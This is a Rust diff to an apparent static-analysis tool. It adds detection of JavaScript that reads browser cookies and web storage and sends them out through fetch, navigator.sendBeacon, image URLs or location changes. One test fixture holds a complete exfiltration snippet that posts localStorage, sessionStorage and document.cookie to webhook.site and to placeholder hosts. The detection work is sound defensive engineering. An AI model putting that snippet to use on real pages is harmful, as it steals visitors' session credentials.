@@ -486,6 +486,9 @@ const GLOBALS: &[&str] = &[
     "isNaN",
     "document",
     "navigator",
+    "localStorage",
+    "sessionStorage",
+    "Image",
     "location",
     "crypto",
     "TextEncoder",
@@ -1412,6 +1415,14 @@ fn substitute_param(target: &str, c: &str) -> String {
     format!("{prefix}{c}{}", &target[end..])
 }
 
+/// The page's key-value stores in browser JavaScript.
+fn is_web_store(q: &str) -> bool {
+    matches!(q, "localStorage" | "sessionStorage")
+}
+
+/// Members of a web store that are not stored values.
+const STORE_MEMBERS: &[&str] = &["getItem", "setItem", "removeItem", "clear", "key", "length"];
+
 /// Names bound by a parameter or pattern.
 fn collect_pattern_names(p: Node, src: &str, out: &mut Vec<String>) {
     treesitter::walk(p, |n| {
@@ -2104,6 +2115,16 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                     self.ev(o, None, d + 1);
                 }
                 let v = self.ev(r, None, d + 1);
+                if !(exports_root || exports_member) {
+                    self.taint_root(l, &v);
+                    // `new Image().src = url + data`, `location.href = ...`:
+                    // the browser requests the URL.
+                    let nav = matches!(otext, "location" | "window.location" | "document.location")
+                        && matches!(prop.as_str(), "href" | "search" | "hash");
+                    if prop == "src" || nav {
+                        self.url_beacon(&v, r, n, if nav { "location" } else { "element.src" });
+                    }
+                }
                 // `module.exports = upload`, `exports.post = send`: the
                 // exported name forwards to the local function.
                 if exports_root || exports_member {
@@ -2140,10 +2161,123 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 self.bind_pattern(l, &v, n, d);
                 v
             }
+            "subscript_expression" => {
+                self.ev(l, None, d + 1);
+                let v = self.ev(r, None, d + 1);
+                self.taint_root(l, &v);
+                v
+            }
             _ => {
                 self.ev(l, None, d + 1);
                 self.ev(r, None, d + 1)
             }
+        }
+    }
+
+    /// `data.cookies = document.cookie`, `data.store[k] = v`: the object
+    /// named at the root of the target now carries the value.
+    fn taint_root(&mut self, l: Node<'t>, v: &V<'t>) {
+        if v.binds.is_empty() {
+            return;
+        }
+        let mut root = l;
+        while matches!(root.kind(), "member_expression" | "subscript_expression") {
+            match root.child_by_field_name("object") {
+                Some(o) => root = o,
+                None => return,
+            }
+        }
+        if root.kind() != "identifier" {
+            return;
+        }
+        let name = self.t(root);
+        if let Some(var) = self.vars.get_mut(name)
+            && matches!(var.r, Ref::None | Ref::Obj(_))
+        {
+            var.add_binds(&v.binds);
+        }
+    }
+
+    /// A read of the page's own browser storage (cookies, localStorage,
+    /// sessionStorage): the credentials of whoever views the page.
+    fn browser_read(&mut self, target: &str, own_key: bool, want: Option<&str>, at: Node) -> V<'t> {
+        let out = self.out_name(want, at);
+        let object = if target == "document.cookie" {
+            "browser cookies of the page"
+        } else if own_key {
+            "value from the page's browser storage"
+        } else {
+            "whole browser storage of the page"
+        };
+        let mut ev = Evidence::new(Op::FileRead, A::Read, R::Credentials, target)
+            .tags([Tag::BrowserStore, Tag::WebStorage])
+            .object(object)
+            .instrument(if target == "document.cookie" {
+                "document.cookie"
+            } else {
+                "web storage"
+            });
+        if own_key {
+            // One named key is the page's own setting (a theme, its API
+            // token): the flow rules judge where it goes.
+            ev.tags.insert(Tag::OwnConfig);
+        }
+        ev.output = Some(out.clone());
+        let i = self.emit_at(ev, at);
+        V {
+            binds: vec![out],
+            ev: Some((i, i + 1)),
+            ..V::default()
+        }
+    }
+
+    /// A URL the browser requests because it is assigned (`img.src`,
+    /// `location.href`): a send when data is folded into it.
+    fn url_beacon(&mut self, v: &V<'t>, r: Node<'t>, at: Node<'t>, instrument: &str) {
+        if v.binds.is_empty() {
+            return;
+        }
+        let (url, _) = self.to_text(v, r);
+        let lower = url.to_ascii_lowercase();
+        if !(lower.starts_with("http://")
+            || lower.starts_with("https://")
+            || lower.starts_with("//"))
+        {
+            return;
+        }
+        let url = if lower.starts_with("//") {
+            format!("https:{url}")
+        } else {
+            url
+        };
+        let mut ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
+            .tags(classify_url(&url))
+            .object("data sent in a URL the browser requests")
+            .instrument(instrument);
+        ev.inputs = v.binds.clone();
+        self.emit_at(ev, at);
+    }
+
+    /// `navigator.sendBeacon(url, data)`.
+    fn beacon_send(&mut self, q: &str, args: &[Arg], n: Node, want: Option<&str>) -> V<'t> {
+        let url = args
+            .first()
+            .map(|a| self.to_text(&a.v, a.n).0)
+            .unwrap_or_else(|| "$_".into());
+        let mut ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
+            .tags(classify_url(&url))
+            .object("data sent by the browser (beacon)")
+            .instrument(q);
+        for a in args {
+            ev.inputs.extend(a.v.binds.iter().cloned());
+        }
+        let out = self.out_name(want, n);
+        ev.output = Some(out.clone());
+        let i = self.emit_at(ev, n);
+        V {
+            binds: vec![out],
+            ev: Some((i, i + 1)),
+            ..V::default()
         }
     }
 
@@ -2320,6 +2454,12 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
             let right = n.child_by_field_name("right");
             let rv = right.map(|r| self.ev(r, None, d + 1)).unwrap_or_default();
             let mut rv = rv;
+            if let (Ref::Api(q), Some(r)) = (&rv.r, right)
+                && is_web_store(q)
+            {
+                let q = q.clone();
+                rv = self.browser_read(&q, false, None, r);
+            }
             if rv.env_obj {
                 let b = self.env_dump(n, None);
                 rv.binds.insert(0, b);
@@ -3145,6 +3285,18 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
             _ if root == "fs" && FS_CHMOD.contains(&last) => self.chmod(q, args, n),
             _ if root == "fs" && FS_COPY.contains(&last) => self.copy(q, args, n),
             "fetch" => self.http(q, args, n, want),
+            _ if is_web_store(root) && last == "getItem" => {
+                // A fixed key is the page's own setting; any key (a loop
+                // over `key(i)`) is the whole store.
+                let own = args.first().is_some_and(|a| a.v.lit().is_some());
+                let target = match args.first().and_then(|a| a.v.lit()) {
+                    Some(k) => format!("{root}.{k}"),
+                    None => root.to_string(),
+                };
+                self.browser_read(&target, own, want, n)
+            }
+            _ if is_web_store(root) && last == "key" => self.browser_read(root, false, want, n),
+            "navigator.sendBeacon" => self.beacon_send(q, args, n, want),
             _ if q == "axios" || root == "axios" => {
                 if last == "create" {
                     V::api("axios")
@@ -4480,7 +4632,14 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                     func: Some(c),
                 });
             } else {
-                let v = self.ev(c, None, d + 1);
+                let mut v = self.ev(c, None, d + 1);
+                // `JSON.stringify(localStorage)`, `Object.entries(sessionStorage)`.
+                if let Ref::Api(q) = &v.r
+                    && is_web_store(q)
+                {
+                    let q = q.clone();
+                    v = self.browser_read(&q, false, None, c);
+                }
                 out.push(Arg {
                     n: c,
                     v,
@@ -4588,6 +4747,12 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 }
                 if q == "path" && key == "sep" {
                     return V::s("/");
+                }
+                if q == "document" && key == "cookie" {
+                    return self.browser_read("document.cookie", false, want, at);
+                }
+                if is_web_store(q) && !STORE_MEMBERS.contains(&key) {
+                    return self.browser_read(&format!("{q}.{key}"), true, want, at);
                 }
                 let name = if q == "globalThis" {
                     canon(key)
@@ -5593,6 +5758,56 @@ main();
             .iter()
             .any(|p| ev[p[0]].op == Op::FileRead);
         assert!(reached, "read does not reach the send");
+    }
+
+    #[test]
+    fn browser_cookies_and_storage_flow_into_a_post() {
+        let ev = run(r#"
+const data = {};
+for (let i = 0; i < localStorage.length; i++) {
+  const k = localStorage.key(i);
+  data[k] = localStorage.getItem(k);
+}
+data.cookies = document.cookie;
+data.session = JSON.stringify(sessionStorage);
+fetch("https://webhook.site/0f3c", { method: "POST", body: JSON.stringify(data) });
+navigator.sendBeacon("https://c.example/b", document.cookie);
+new Image().src = "https://img.example/p.gif?c=" + encodeURIComponent(document.cookie);
+"#);
+        let reads: Vec<&Evidence> = ev
+            .iter()
+            .filter(|e| e.op == Op::FileRead && e.has(Tag::WebStorage))
+            .collect();
+        assert!(reads.iter().any(|e| e.target == "document.cookie"));
+        assert!(reads.iter().any(|e| e.target == "sessionStorage"));
+        assert!(reads.iter().all(|e| !e.has(Tag::OwnConfig)), "{reads:#?}");
+        let sends: Vec<&Evidence> = ev.iter().filter(|e| e.op == Op::NetSend).collect();
+        assert_eq!(sends.len(), 3, "{sends:#?}");
+        let post = sends
+            .iter()
+            .find(|e| e.target.contains("webhook.site"))
+            .unwrap();
+        for r in reads.iter().filter(|r| {
+            r.output.as_deref() != Some("$k") && r.location.start_line < post.location.start_line
+        }) {
+            let o = r.output.as_ref().unwrap();
+            assert!(post.inputs.contains(o), "{o} not in {post:#?}");
+        }
+        assert!(sends.iter().all(|e| !e.inputs.is_empty()));
+    }
+
+    #[test]
+    fn one_named_storage_key_is_the_pages_own_setting() {
+        let ev = run(r#"
+const theme = localStorage.getItem("theme") || "dark";
+localStorage.setItem("theme", theme);
+document.cookie = "seen=1";
+img.src = "/static/logo.png";
+"#);
+        let reads: Vec<&Evidence> = ev.iter().filter(|e| e.op == Op::FileRead).collect();
+        assert_eq!(reads.len(), 1, "{reads:#?}");
+        assert!(reads[0].has(Tag::OwnConfig));
+        assert!(find(&ev, Op::NetSend).is_none());
     }
 
     #[test]
